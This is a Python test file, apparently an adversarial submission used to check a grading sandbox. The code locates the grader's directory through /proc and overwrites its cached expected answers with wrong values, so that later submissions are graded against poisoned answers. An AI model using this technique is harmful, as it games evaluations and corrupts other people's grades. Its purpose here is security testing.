"""Hostile: poison the grader's cache of expected answers, to be graded right next time.

Attack: the grader caches the reference solution's answers in <course>/.grade-cache/*.json. The
child finds the grader's working directory through /proc/<parent>/cwd (normally the course when
`grade submit` runs there) and rewrites every cached answer it can to its own (wrong) answers:
q2a = 0.5 (the probability, a listed mistake) and q2d = 0.1. This run is graded against the old
cache (read before the child starts), but every later grading — its own resubmission, or another
student's — would use the poisoned values.

Expected at the strict level: the sandbox cannot see the grader's process or the course; at the user
level the cache is the grader's alone (0600 in a 0700 folder). At the process level the child runs as
the grader's own user and the rewrite succeeds, but the grader puts the cache back as it was after
the run (checking/cache_guard.py), so no later grading sees the poisoned values.
"""
# ATTACKED: q2a q2d
# HONEST: q1a q4c_alpha1 q4c_alpha2

import glob
import json
import os

q1a = "Normalizing flows"
q4c_alpha1 = 0.9
q4c_alpha2 = 0.8
q2a = 0.5   # wrong: p(x), not log p(x)
q2d = 0.1   # wrong

poisoned = []
try:
    course = os.readlink(f"/proc/{os.getppid()}/cwd")
except OSError:
    course = None
if course:
    for path in glob.glob(os.path.join(course, ".grade-cache", "genmodels-*.json")):
        try:
            with open(path) as f:
                cached = json.load(f)
            if "q2a" in cached:
                cached["q2a"] = q2a
                cached["q2d"] = q2d
                with open(path, "w") as f:
                    json.dump(cached, f)
                poisoned.append(path)
        except (OSError, ValueError):
            pass


def q3a():
    return f"SECTEST poisoned {len(poisoned)} cache file(s) under {course}"
